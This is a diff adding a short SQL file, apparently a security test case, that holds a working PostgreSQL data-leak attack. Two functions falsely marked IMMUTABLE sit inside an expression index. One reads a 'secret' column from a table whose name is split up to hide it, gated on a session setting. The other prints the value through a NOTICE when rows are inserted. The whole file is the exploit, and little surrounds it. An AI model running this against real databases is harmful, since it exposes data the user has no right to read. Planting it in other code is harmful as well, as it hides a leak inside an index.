@@ -1,0 +1,17 @@
+-- Inserts twice into a table whose index has the value in it since the first time.
+-- wants: read
+-- known: the session keeps the expression with the result of a function marked IMMUTABLE in it
+-- attack:
+CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$
+DECLARE found text; BEGIN
+  IF current_setting('x.go', true) = 'yes' THEN EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO found; END IF;
+  RETURN found;
+END
+$f$;
+CREATE FUNCTION tell(what text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN RAISE NOTICE '%', what; RETURN what; END $f$;
+CREATE TABLE told (a text);
+CREATE INDEX ON told (tell(a || peek()));
+-- session: second
+SET x.go = 'yes';
+INSERT INTO told VALUES ('x');
+INSERT INTO told VALUES ('x');
